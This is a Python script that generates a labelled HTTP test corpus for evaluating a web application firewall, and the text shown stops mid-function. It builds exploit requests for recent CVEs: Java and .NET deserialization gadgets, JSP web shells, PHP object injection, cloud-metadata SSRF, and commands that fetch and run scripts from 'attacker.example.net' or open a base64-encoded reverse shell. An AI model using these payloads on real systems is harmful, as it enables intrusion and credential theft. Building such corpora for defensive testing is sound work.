#!/usr/bin/env python3
"""Held-out HTTP test corpus "recent" for the Palisade WAF.

What it is
    A deterministic generator (Python 3 standard library only, fixed random seed)
    of labelled HTTP requests in the corpus line format of
    /work/shared/corpora/README.md.  Domain: exploit traffic for vulnerabilities
    published in late 2024, 2025 and 2026 in products that are commonly run in
    Kubernetes or behind a reverse proxy (Next.js / React Server Components,
    Tomcat, SAP NetWeaver, Citrix NetScaler, Ivanti, CrushFTP, Craft CMS,
    Roundcube, Magento, Sitecore, SharePoint, Gladinet, FreePBX, Oracle EBS,
    FortiWeb, XWiki, pgAdmin, Apache Camel, AEM Forms, Apache Tika, Wazuh,
    Commvault, SonicWall, Cisco ISE, GeoServer, Langflow, n8n, Flowise,
    WordPress plugins, Grafana, ingress-nginx admission webhooks, ...) plus
    generic attacker techniques of the period (WorstFit best-fit argument
    injection, PHP-CGI soft hyphen, HTTP/1.1 request smuggling with chunk
    extensions and Transfer-Encoding obfuscations, cloud-metadata SSRF with
    IMDSv2 token headers, JNDI obfuscations).  The request shapes follow the
    published advisories, nuclei templates, Metasploit modules and researchers'
    write-ups as far as the author remembers them.

    "attacks" mode prints requests that carry an exploit payload
    (expect "detect"); "benign" mode prints ordinary traffic of the same
    products (category "benign") and legitimate but WAF-hostile content that
    mentions code or security topics (category "dev-content"), both
    expect "pass".

Written blind
    This file was written without reading Palisade's rules, rule sources,
    tests or test data (rulesets/), without reading the other corpus
    generators (scripts/corpus-*.py) and without running the WAF, so that it
    measures the WAF on traffic it was not tuned for.  All host names are
    example names; nothing is ever sent.

How to run (from the repository root)
    python3 scripts/corpus-recent.py attacks > rulesets/tests/data/recent-attacks.jsonl
    python3 scripts/corpus-recent.py benign  > rulesets/tests/data/recent-benign.jsonl
    python3 scripts/corpus-recent.py check   # validate both modes, print counts
"""

import base64
import gzip
import io
import json
import random
import sys
import unicodedata
import urllib.parse
import zipfile

SET = "recent"
SEED_ATTACKS = 2025_0329
SEED_BENIGN = 2025_1203

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36 Edg/133.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.2 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/136.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:134.0) Gecko/20100101 Firefox/134.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:138.0) Gecko/20100101 Firefox/138.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/137.0.0.0 Mobile Safari/537.36",
]
TOOLS = [
    "python-requests/2.32.3",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "curl/8.5.0",
    "curl/8.11.1",
    "Python-urllib/3.12",
    "python-httpx/0.28.1",
]
HTML_ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
FORM = "application/x-www-form-urlencoded"
JSON_CT = "application/json"


def q(s, safe=""):
    """Percent-encode everything but unreserved characters (encodeURIComponent-ish)."""
    return urllib.parse.quote(s, safe=safe)


def qp(s):
    """Form encoding as browsers and requests do it (spaces become '+')."""
    return urllib.parse.quote_plus(s, safe="")


def form(pairs):
    return "&".join(f"{qp(k)}={qp(v)}" for k, v in pairs)


def jd(obj):
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


def jdp(obj):
    return json.dumps(obj, ensure_ascii=False)


def b64(s):
    if isinstance(s, str):
        s = s.encode()
    return base64.b64encode(s).decode()


def multipart(parts, boundary):
    """parts: (name, value[, filename[, content_type]]) tuples."""
    out = []
    for p in parts:
        name, value = p[0], p[1]
        filename = p[2] if len(p) > 2 else None
        ctype = p[3] if len(p) > 3 else None
        cd = f'form-data; name="{name}"'
        if filename is not None:
            cd += f'; filename="{filename}"'
        out.append(f"--{boundary}\r\nContent-Disposition: {cd}\r\n")
        if ctype:
            out.append(f"Content-Type: {ctype}\r\n")
        out.append(f"\r\n{value}\r\n")
    out.append(f"--{boundary}--\r\n")
    return "".join(out), f"multipart/form-data; boundary={boundary}"


class Gen:
    def __init__(self, seed):
        self.r = random.Random(seed)
        self.out = []
        self.n = {}

    # -- helpers -----------------------------------------------------------
    def _id(self, cat, tag):
        key = (cat, tag)
        self.n[key] = self.n.get(key, 0) + 1
        return f"{SET}/{cat}/{tag}-{self.n[key]:03d}"

    def hexs(self, n):
        return "".join(self.r.choice("0123456789abcdef") for _ in range(n))

    def alnum(self, n):
        return "".join(self.r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(n))

    def uuid(self):
        h = self.hexs(32)
        return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"

    def browser(self):
        return self.r.choice(BROWSERS)

    def tool(self):
        return self.r.choice(TOOLS)

    def wk_boundary(self):
        return "----WebKitFormBoundary" + self.alnum(16)

    def py_boundary(self):
        return self.hexs(32)

    def curl_boundary(self):
        return "------------------------" + self.hexs(16)

    def ff_boundary(self):
        return "---------------------------" + "".join(self.r.choice("0123456789") for _ in range(29))

    # -- emitters ------------------------------------------------------------
    def add(self, cat, tag, method, uri, host, headers=(), body=None, ctype=None,
            ua=None, accept=None, expect=None):
        if expect is None:
            expect = "pass" if cat in ("benign", "dev-content") else "detect"
        hs = [["Host", host], ["User-Agent", ua or self.browser()]]
        names = {h[0].lower() for h in headers}
        if "accept" not in names:
            hs.append(["Accept", accept or "*/*"])
        hs += [[h[0], h[1]] for h in headers]
        line = {
            "id": self._id(cat, tag), "set": SET, "category": cat, "expect": expect,
            "method": method, "uri": uri, "version": "HTTP/1.1", "headers": hs,
        }
        if body is not None:
            if ctype and "content-type" not in names:
                hs.append(["Content-Type", ctype])
            hs.append(["Content-Length", str(len(body.encode("utf-8")))])
            line["body"] = body
        self.out.append(line)

    def raw(self, cat, tag, data, expect=None):
        if expect is None:
            expect = "pass" if cat in ("benign", "dev-content") else "detect"
        self.out.append({"id": self._id(cat, tag), "set": SET, "category": cat,
                         "expect": expect, "raw_b64": base64.b64encode(data).decode()})

    def rawreq(self, cat, tag, method, target, host, headers, body=b"", ua=None, ctype=None):
        """Raw request with exact bytes (binary bodies); Content-Length is computed."""
        lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", f"User-Agent: {ua or self.tool()}",
                 "Accept: */*"]
        lines += [f"{k}: {v}" for k, v in headers]
        if ctype:
            lines.append(f"Content-Type: {ctype}")
        if body or method in ("POST", "PUT"):
            lines.append(f"Content-Length: {len(body)}")
        lines.append("Connection: close")
        data = ("\r\n".join(lines) + "\r\n\r\n").encode() + body
        self.raw(cat, tag, data)


# ---------------------------------------------------------------------------
# payload builders
# ---------------------------------------------------------------------------

def java_serialized(cmd, chain="cc6"):
    """A byte stream shaped like a ysoserial gadget (class descriptors + command)."""
    def utf(s):
        b = s.encode()
        return len(b).to_bytes(2, "big") + b

    def cls(name, suid):
        return b"sr" + utf(name) + suid + b"\x02\x00\x01L\x00\x03keyt\x00\x12Ljava/lang/Object;xp"

    def st(s):
        return b"t" + utf(s)

    body = b"\xac\xed\x00\x05"
    if chain == "cc6":
        body += cls("java.util.HashSet", b"\xbaD\x85\x95\x96\xb8\xb74")
        body += cls("org.apache.commons.collections.keyvalue.TiedMapEntry", b"\x8a\xad\xd2\x9b9\xc1\x1f\xdb")
        body += cls("org.apache.commons.collections.map.LazyMap", b"n\xe5\x94\x82\x9ey\x10\x94")
        body += cls("org.apache.commons.collections.functors.ChainedTransformer", b"0\xc7\x97\xec(z\x97\x04")
        body += b"ur\x00-[Lorg.apache.commons.collections.Transformer;\xbdV*\xf1\xd84\x18\x99\x02\x00\x00xp\x00\x00\x00\x05"
        body += cls("org.apache.commons.collections.functors.ConstantTransformer", b"XvA\x11\x02\xb1\x94")
        body += b"vr\x00\x11java.lang.Runtime\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00xp"
        body += cls("org.apache.commons.collections.functors.InvokerTransformer", b"\x87\xe8\xffk{|\xce8")
        body += st("getMethod") + st("getRuntime") + st("invoke") + st("exec")
        body += b"ur\x00\x13[Ljava.lang.String;\xad\xd2V\xe7\xe9\x1d{G\x02\x00\x00xp\x00\x00\x00\x03"
        body += st("/bin/sh") + st("-c") + st(cmd)
    elif chain == "cb1":
        body += cls("java.util.PriorityQueue", b"\x94\xda0\xb4\xfb?\x82\xb1")
        body += cls("org.apache.commons.beanutils.BeanComparator", b"\xe3\xa1\x88\xeas\"\xa4H")
        body += st("outputProperties")
        body += cls("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", b"\tWO\xc1n\xac\xab3")
        body += b"ur\x00\x03[[B K\xe7\x02\x00\x00xp" + b"\xca\xfe\xba\xbe\x00\x00\x004"
        body += st("java/lang/Runtime") + st("getRuntime") + st("exec") + st(cmd)
        body += st("com/sun/org/apache/xalan/internal/xsltc/runtime/AbstractTranslet")
    else:  # spring / jdk7u21 flavour
        body += cls("java.util.LinkedHashSet", b"\xd8l\xd7Z\x95\xdd*\x1e")
        body += cls("org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler", b"\x00\x00\x00\x00\x00\x00\x00\x01")
        body += cls("java.lang.reflect.Proxy", b"\xe1'\xda \xcc\x10C\xcb")
        body += st("newTransformer") + st("java.lang.ProcessBuilder") + st("start") + st(cmd)
    return body


def dotnet_viewstate(r, cmd, mac_len=20):
    """ObjectStateFormatter blob as ysoserial.net emits it (/wEy... prefix)."""
    xaml = ('<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" '
            'xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:System="clr-namespace:System;assembly=mscorlib" '
            'xmlns:Diag="clr-namespace:System.Diagnostics;assembly=system"><ObjectDataProvider x:Key="LaunchCalc" '
            'ObjectType="{x:Type Diag:Process}" MethodName="Start"><ObjectDataProvider.MethodParameters>'
            f'<System:String>cmd</System:String><System:String>/c {cmd}</System:String>'
            '</ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>')
    inner = (b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00"
             b"^Microsoft.PowerShell.Editor, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35"
             b"\x05\x01\x00\x00\x00BMicrosoft.VisualStudio.Text.Formatting.TextFormattingRunProperties"
             b"\x01\x00\x00\x00\x0fForegroundBrush\x01\x02\x00\x00\x00\x06\x03\x00\x00\x00"
             + xaml.encode() + b"\x0b")
    n = len(inner)
    var = bytearray()
    while True:
        byte = n & 0x7F
        n >>= 7
        if n:
            var.append(byte | 0x80)
        else:
            var.append(byte)
            break
    mac = bytes(r.randrange(256) for _ in range(mac_len))
    return base64.b64encode(b"\xff\x01\x32" + bytes(var) + inner + mac).decode()


def php_fncookiejar(path, code):
    cookie = ('a:3:{s:7:"Expires";i:1;s:7:"Discard";b:0;s:5:"Value";s:%d:"%s";}' % (len(code), code))
    return ('O:31:"GuzzleHttp\\Cookie\\FileCookieJar":4:{s:36:"\x00GuzzleHttp\\Cookie\\CookieJar\x00cookies";'
            'a:1:{i:0;O:27:"GuzzleHttp\\Cookie\\SetCookie":1:{s:33:"\x00GuzzleHttp\\Cookie\\SetCookie\x00data";%s}}'
            's:39:"\x00GuzzleHttp\\Cookie\\CookieJar\x00strictMode";N;'
            's:41:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename";s:%d:"%s";'
            's:52:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00storeSessionCookies";b:1;}'
            % (cookie, len(path), path))


def gz_b64(text):
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb", mtime=0) as f:
        f.write(text.encode())
    return base64.b64encode(buf.getvalue()).decode()


def stored_zip(files):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, date_time=(2025, 4, 22, 10, 0, 0))
            z.writestr(zi, data)
    return buf.getvalue()


JSP_SHELL = ('<%@ page import="java.util.*,java.io.*"%><% String c = request.getParameter("cmd"); '
             'if (c != null) { Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh","-c",c}); '
             'InputStream in = p.getInputStream(); int a; while ((a = in.read()) != -1) out.print((char)a); } %>')
JSP_LOADER = ('<%! class U extends ClassLoader { U(ClassLoader c){super(c);} public Class g(byte[] b)'
              '{return super.defineClass(b,0,b.length);} } %><% if (request.getMethod().equals("POST")) { '
              'String k="e45e329feb5d925b"; session.putValue("u",k); javax.crypto.Cipher c=javax.crypto.Cipher.getInstance("AES"); '
              'c.init(2,new javax.crypto.spec.SecretKeySpec(k.getBytes(),"AES")); new U(this.getClass().getClassLoader())'
              '.g(c.doFinal(java.util.Base64.getDecoder().decode(request.getReader().readLine()))).newInstance().equals(pageContext); } %>')


# ---------------------------------------------------------------------------
# attacks
# ---------------------------------------------------------------------------

ATK = "attacker.example.net"
OAST = "c5q2n8k0a7.oast.example.org"


def atk_nextjs(g):
    T = "nextjs-cve-2025-29927"
    mw5 = "middleware:middleware:middleware:middleware:middleware"
    smw5 = "src/middleware:src/middleware:src/middleware:src/middleware:src/middleware"
    for path, val in [("/admin", mw5), ("/dashboard/billing", smw5), ("/account/settings", "pages/_middleware"),
                      ("/api/internal/feature-flags", "middleware")]:
        g.add("generic", T, "GET", path, "app.example.com", [("x-middleware-subrequest", val)], accept=HTML_ACCEPT,
              ua=g.browser())
    g.add("lfi", T, "GET", "/api/admin/export?file=" + q("../../../../../../etc/passwd"), "app.example.com",
          [("X-Middleware-Subrequest", mw5)], ua=g.tool())
    g.add("sqli", T, "GET", "/api/admin/orders?status=" + q("paid' UNION SELECT email,password_hash,NULL FROM users-- -"),
          "app.example.com", [("x-middleware-subrequest", smw5)], ua=g.tool(), accept="application/json")
    g.add("ssrf", T, "POST", "/api/admin/webhooks/test", "app.example.com", [("x-middleware-subrequest", mw5)],
          body=jd({"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}), ctype=JSON_CT,
          ua=g.tool())
    # CVE-2025-57822: middleware forwarding request headers -> server side fetch of Location
    T2 = "nextjs-cve-2025-57822"
    g.add("ssrf", T2, "GET", "/", "www.example.com",
          [("Location", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")], ua=g.tool())
    g.add("ssrf", T2, "GET", "/products", "www.example.com",
          [("Location", "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets")], ua=g.tool())
    # image optimizer with an over-broad remotePatterns
    T3 = "nextjs-image-ssrf"
    g.add("ssrf", T3, "GET", "/_next/image?url=" + q("http://169.254.169.254/latest/meta-data/") + "&w=256&q=75",
          "www.example.com", ua=g.tool(), accept="image/avif,image/webp,*/*")
    g.add("ssrf", T3, "GET", "/_next/image?url=" + q("http://127.0.0.1:9090/api/v1/status/config") + "&w=64&q=75",
          "www.example.com", ua=g.tool(), accept="image/avif,image/webp,*/*")


def atk_react2shell(g):
    T = "react-cve-2025-55182"
    cmds = ["id", "curl -s http://%s/s.sh | sh" % ATK, "wget -qO- http://%s/x|bash" % ATK,
            "cat /var/run/secrets/kubernetes.io/serviceaccount/token"]
    for i, cmd in enumerate(cmds):
        if i % 2 == 0:
            prefix = f"process.mainModule.require('child_process').execSync('{cmd}');"
        else:
            prefix = (f"var res=process.mainModule.require('child_process').execSync('{cmd}').toString().trim();;"
                      "throw Object.assign(new Error('NEXT_REDIRECT'),{digest: `NEXT_REDIRECT;push;/login?a=${res};307;`});")
        chunk0 = jd({"then": "$1:__proto__:then", "status": "resolved_model", "reason": -1,
                     "value": "{\"then\":\"$B1337\"}",
                     "_response": {"_prefix": prefix, "_chunks": "$Q2",
                                   "_formData": {"get": "$1:constructor:constructor"}}})
        parts = [("0", chunk0), ("1", '"$@0"'), ("2", "[]")]
        bnd = g.wk_boundary() if i % 2 else g.py_boundary()
        body, ct = multipart(parts, bnd)
        path = ["/", "/login", "/dashboard", "/en/checkout"][i]
        g.add("rce", T, "POST", path, ["app.example.com", "shop.example.com"][i % 2],
              [("Next-Action", "x" if i < 2 else g.hexs(40)), ("Accept", "text/x-component")],
              body=body, ctype=ct, ua=g.browser() if i % 2 else g.tool())
    # unicode escaped JSON to dodge naive matching
    pre = "\\u0070rocess.mainModule.require('child_process').execSync('nslookup %s')" % OAST
    chunk0 = ('{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B0\\"}",'
              '"_response":{"_prefix":"%s;","_formData":{"get":"$1:\\u0063onstructor:\\u0063onstructor"}}}' % pre)
    body, ct = multipart([("0", chunk0), ("1", '"$@0"')], g.wk_boundary())
    g.add("rce", T, "POST", "/", "app.example.com", [("Next-Action", "7f3a"), ("Next-Router-State-Tree", q('["",{"children":["__PAGE__",{}]},null,null,true]'))],
          body=body, ctype=ct)
    # padded variant (junk field first, as WAF-bypass scripts do)
    junk = g.alnum(6000)
    prefix = "process.mainModule.require('child_process').execSync('echo cHduZWQ=|base64 -d>/tmp/p');"
    chunk0 = jd({"then": "$1:__proto__:then", "status": "resolved_model", "reason": -1, "value": "{\"then\":\"$B1337\"}",
                 "_response": {"_prefix": prefix, "_formData": {"get": "$1:constructor:constructor"}}})
    body, ct = multipart([("pad", junk), ("0", chunk0), ("1", '"$@0"')], g.wk_boundary())
    g.add("rce", T, "POST", "/about", "www.example.com", [("Next-Action", "x")], body=body, ctype=ct, ua=g.tool())


def atk_tomcat(g):
    T = "tomcat-cve-2025-24813"
    for i, (chain, cmd) in enumerate([("cc6", "touch /tmp/pwned"), ("cb1", "curl http://%s/t" % ATK),
                                      ("cc6", "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDMgMD4mMQ==}|{base64,-d}|{bash,-i}"),
                                      ("spring", "nslookup tc.%s" % OAST)]):
        name = ["abc.session", "x" + g.hexs(6) + ".session", "deserialize.session", "poc.session"][i]
        payload = java_serialized(cmd, chain)
        g.rawreq("java", T, "PUT", "/" + name, "tomcat.example.com",
                 [("Content-Range", f"bytes 0-{len(payload) - 1}/{len(payload) + 100}")], payload,
                 ctype="application/octet-stream")
    # trigger request: the session id refers to the planted file
    g.add("java", T, "GET", "/index.jsp", "tomcat.example.com", [("Cookie", "JSESSIONID=.deserialize")], ua=g.tool())
    # partial PUT of a JSP into a writable default-servlet directory
    g.add("rce", T, "PUT", "/uploads/shell.jsp/", "tomcat.example.com",
          [("Content-Range", "bytes 0-%d/%d" % (len(JSP_SHELL) - 1, len(JSP_SHELL) + 20))],
          body=JSP_SHELL, ctype="application/octet-stream", ua=g.tool())
    T2 = "tomcat-cve-2025-55752"
    g.add("lfi", T2, "GET", "/static/..%2FWEB-INF%2Fweb.xml", "tomcat.example.com", ua=g.tool())
    g.add("lfi", T2, "GET", "/files/%2e%2e/WEB-INF/classes/application.properties", "tomcat.example.com", ua=g.tool())


def atk_sap(g):
    T = "sap-cve-2025-31324"
    names = ["helper.jsp", "cache.jsp", "forwardsap.jsp", g.alnum(8).lower() + ".jsp"]
    for i, name in enumerate(names):
        shell = JSP_SHELL if i % 2 == 0 else JSP_LOADER
        bnd = [g.py_boundary, g.curl_boundary, g.wk_boundary, g.py_boundary][i]()
        body, ct = multipart([("file", shell, name, "application/octet-stream")], bnd)
        uri = "/developmentserver/metadatauploader?CONTENT=MODEL&MODEL_NAME=" + name.split(".")[0]
        if i == 2:
            uri = "/developmentserver/metadatauploader?CONTENT=MODEL&CONTENTTYPE=MODEL&MODEL_NAME=../../irj/servlet_jsp/irj/root/" + name.split(".")[0]
        g.add("rce", T, "POST", uri, "sap.example.com", body=body, ctype=ct, ua=g.tool())
    # zipped model as in the exploits seen in the wild
    z = stored_zip([("model.xml", "<model/>"), ("../../irj/root/shell.jsp", JSP_SHELL)])
    g.rawreq("rce", T, "POST", "/developmentserver/metadatauploader?CONTENT=MODEL&MODEL_NAME=shell",
             "sap.example.com", [], z, ctype="application/octet-stream")
    T2 = "sap-cve-2025-42999"
    g.rawreq("java", T2, "POST", "/developmentserver/metadatauploader?CONTENT=VC&MODEL_NAME=x",
             "sap.example.com", [], java_serialized("whoami > /usr/sap/SID/J00/j2ee/cluster/apps/sap.com/irj/servlet_jsp/irj/root/o.txt"),
             ctype="application/octet-stream")
    g.add("rce", T, "GET", "/irj/helper.jsp?cmd=" + qp("cat /etc/passwd"), "sap.example.com", ua=g.tool())
    g.add("rce", T, "GET", "/irj/cache.jsp?cmd=" + q("whoami && hostname && ip a"), "sap.example.com", ua=g.browser())


def atk_citrix_ivanti(g):
    T = "citrix-cve-2025-5777"
    for path in ["/p/u/doAuthentication.do", "/nf/auth/doAuthentication.do"]:
        g.add("protocol", T, "POST", path, "gateway.example.com", [("Connection", "keep-alive")], body="login",
              ctype=FORM, ua=g.tool())
    T = "ivanti-cve-2025-22457"
    for n in (1800, 2600):
        xff = "".join(g.r.choice("1234567890.") for _ in range(n))
        g.add("protocol", T, "GET", "/dana-na/auth/url_default/welcome.cgi", "vpn.example.com",
              [("X-Forwarded-For", xff)], ua=g.tool())
    T = "ivanti-epmm-cve-2025-4427"
    els = [
        "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(''.getClass().forName('java.lang.Runtime')).exec('id')}",
        "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"curl http://%s/e\")}" % ATK,
        "${3*333}",
        "${''.getClass().forName('java.lang.ProcessBuilder').getConstructor(''.getClass().forName('[Ljava.lang.String;')).newInstance(new String[]{'sh','-c','nslookup m.%s'}).start()}" % OAST,
        "__${T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}__::.x",
    ]
    paths = ["/mifs/rs/api/v2/featureusage", "/mifs/rs/api/v2/featureusage_history", "/mifs/rs/api/v2/featureusage",
             "/mifs/rs/api/v2/featureusage_history", "/api/v2/featureusage"]
    for p, e in zip(paths, els):
        g.add("ssti", T, "GET", p + "?adminDeviceSpaceId=131&format=" + q(e), "mdm.example.com", ua=g.tool(),
              accept="application/json")


def atk_crushftp(g):
    T = "crushftp-cve-2025-31161"
    c2f = g.hexs(4)
    ck = f"CrushAuth=17431138{g.r.randrange(10**5, 10**6)}_{g.alnum(26)}{c2f}; currentAuth={c2f}"
    g.add("generic", T, "GET", f"/WebInterface/function/?command=getUserList&serverGroup=MainUsers&c2f={c2f}",
          "files.example.com", [("Cookie", ck), ("Authorization", "AWS4-HMAC-SHA256 Credential=crushadmin/")],
          ua=g.tool())
    user_xml = ('<?xml version="1.0" encoding="UTF-8"?><user type="properties"><user_name>svc_backup</user_name>'
                '<password>Pwn3d!2025</password><extra_vfs type="vector"></extra_vfs><version>1.0</version>'
                '<root_dir>/</root_dir><userVersion>6</userVersion><max_logins>0</max_logins>'
                '<site>(SITE_PASS)(SITE_DOT)(SITE_EMPTYPASS)(CONNECT)</site><created_by_username>crushadmin</created_by_username></user>')
    body = form([("command", "setUserItem"), ("data_action", "replace"), ("serverGroup", "MainUsers"),
                 ("username", "svc_backup"), ("user", user_xml), ("xmlItem", "user"), ("vfs_items", '<?xml version="1.0" encoding="UTF-8"?><vfs type="vector"></vfs>'),
                 ("permissions", '<?xml version="1.0" encoding="UTF-8"?><VFS type="properties"><item name="/">(read)(view)(resume)</item></VFS>'),
                 ("c2f", c2f)])
    g.add("generic", T, "POST", "/WebInterface/function/", "files.example.com",
          [("Cookie", ck), ("Authorization", "AWS4-HMAC-SHA256 Credential=crushadmin/")], body=body, ctype=FORM,
          ua=g.tool())
    T = "crushftp-cve-2024-4040"
    c2f = g.hexs(4)
    ck = f"CrushAuth=1713{g.r.randrange(10**8, 10**9)}_{g.alnum(26)}{c2f}; currentAuth={c2f}"
    for cat, path in [("lfi", "<INCLUDE>/etc/passwd</INCLUDE>"), ("ssti", "{working_dir}"),
                      ("lfi", "{INCLUDE:/var/opt/CrushFTP10/sessions.obj}"), ("ssti", "{hostname}{user_name}")]:
        g.add(cat, T, "POST", "/WebInterface/function/", "files.example.com", [("Cookie", ck)],
              body=form([("command", "zip"), ("c2f", c2f), ("path", path), ("names", "/bbb")]), ctype=FORM,
              ua=g.tool())
    g.add("lfi", T, "GET", "/WebInterface/function/?command=exists&c2f=%s&paths=%s" % (c2f, q("<INCLUDE>users/MainUsers/groups.XML</INCLUDE>")),
          "files.example.com", [("Cookie", ck)], ua=g.tool())


def atk_craft(g):
    T = "craftcms-cve-2025-32432"
    hdr = [("X-Requested-With", "XMLHttpRequest"), ("X-CSRF-Token", g.alnum(40) + "=="), ("Accept", "application/json")]
    payloads = [
        {"assetId": 11, "handle": {"width": 123, "height": 123, "as session": {
            "class": "craft\\behaviors\\FieldLayoutBehavior", "__class": "GuzzleHttp\\Psr7\\FnStream",
            "__construct()": [[]], "_fn_close": "phpinfo"}}},
        {"assetId": 1, "handle": {"width": 100, "height": 100, "as hack": {
            "class": "craft\\behaviors\\FieldLayoutBehavior", "__class": "yii\\rbac\\PhpManager",
            "__construct()": [{"itemFile": "/var/lib/php/sessions/sess_" + g.hexs(26)}]}}},
        {"assetId": 3, "handle": {"width": 1, "height": 1, "as it": {
            "class": "craft\\behaviors\\FieldLayoutBehavior", "__class": "GuzzleHttp\\Psr7\\FnStream",
            "__construct()": [[]], "_fn_close": "system", "_fn_getContents": "id"}}},
    ]
    for p in payloads:
        g.add("php", T, "POST", "/index.php?p=admin/actions/assets/generate-transform", "cms.example.com", hdr,
              body=jd(p), ctype=JSON_CT, ua=g.tool())
    # session poisoning step used together with the PhpManager include
    g.add("php", T, "GET", "/index.php?p=admin/dashboard&a=" + qp("<?php system($_GET['c']); ?>"), "cms.example.com",
          ua=g.tool())
    T2 = "craftcms-cve-2024-56145"
    g.add("rfi", T2, "GET", "/?--templatesPath=ftp://%s:2121/" % ATK, "cms.example.com", ua=g.tool())
    g.add("rfi", T2, "GET", "/index.php?--templatesPath=" + q("ftp://anonymous:x@203.0.113.9/tpl/"), "cms.example.com",
          ua=g.tool())


def atk_roundcube(g):
    T = "roundcube-cve-2025-49113"
    for i, cmd in enumerate(["id > /tmp/rc", "curl http://%s/rc.sh|sh" % ATK, "nslookup rc.%s" % OAST]):
        gpgconf = f"echo {b64(cmd)}|base64 -d|sh;#"
        obj = ('O:16:"Crypt_GPG_Engine":3:{s:26:"\x00Crypt_GPG_Engine\x00_process";b:0;'
               f's:25:"\x00Crypt_GPG_Engine\x00_gpgconf";s:{len(gpgconf)}:"{gpgconf}";'
               's:26:"\x00Crypt_GPG_Engine\x00_homedir";s:0:"";}')
        inner = f'a:2:{{i:0;s:1:"x";i:1;{obj}}}'
        fname = f'x|b:0;preferences_time|b:0;preferences|s:{len(inner)}:"{inner}";i:0;b:0;'.replace('"', '\\"')
        body, ct = multipart([("_file[]", "GIF89a\x01\x00\x01\x00", fname, "image/gif")], g.wk_boundary())
        uri = ("/?_from=edit-" + q("!") + g.alnum(4) + "&_task=settings&_framed=1&_remote=1&_id=1&_uploadid="
               + str(g.r.randrange(10**12, 10**13)) + "&_unlock=loading" + str(g.r.randrange(10**12, 10**13)) + "&_action=upload")
        g.add("php", T, "POST", uri, "mail.example.com",
              [("Cookie", f"roundcube_sessid={g.alnum(26)}; roundcube_sessauth={g.alnum(40)}"),
               ("X-Roundcube-Request", g.alnum(32))], body=body, ctype=ct)
    T2 = "roundcube-cve-2024-42009"
    html = ('<body title="bgcolor=foo" name="bar style=animation-name:progress-bar-stripes onanimationstart='
            'fetch(\'//%s/\'+document.cookie) foo=bar">Hi</body>' % ATK)
    body = form([("_token", g.alnum(32)), ("_task", "mail"), ("_action", "send"), ("_from", "1"),
                 ("_to", "victim@example.com"), ("_subject", "invoice"), ("_is_html", "1"),
                 ("_message", html)])
    g.add("xss", T2, "POST", "/?_task=mail&_unlock=loading1&_framed=1", "mail.example.com",
          [("Cookie", f"roundcube_sessid={g.alnum(26)}")], body=body, ctype=FORM)
    T3 = "roundcube-cve-2024-37383"
    html = '<svg><animate attributeName="href " values="javascript:alert(origin)" href="#link"/><a id="link"><text x="20" y="20">open</text></a></svg>'
    body = form([("_token", g.alnum(32)), ("_task", "mail"), ("_action", "send"), ("_to", "it@example.com"),
                 ("_subject", "doc"), ("_is_html", "1"), ("_message", html)])
    g.add("xss", T3, "POST", "/?_task=mail&_action=send", "mail.example.com",
          [("Cookie", f"roundcube_sessid={g.alnum(26)}")], body=body, ctype=FORM)


def atk_magento(g):
    T = "magento-cve-2025-54236"
    sid = g.alnum(26).lower()
    ser = "_|" + php_fncookiejar("/var/www/html/pub/media/x.php", "<?php system($_GET[1]); ?>")
    body, ct = multipart([("form_key", g.alnum(16)), ("custom_attributes[country_id]", ser, "sess_" + sid, "application/octet-stream")],
                         g.wk_boundary())
    g.add("php", T, "POST", "/customer/address_file/upload", "shop.example.com",
          [("Cookie", f"form_key={g.alnum(16)}")], body=body, ctype=ct)
    nested = {"paymentMethod": {"method": "checkmo", "paymentData": {"context": {"urlDecoder": {},
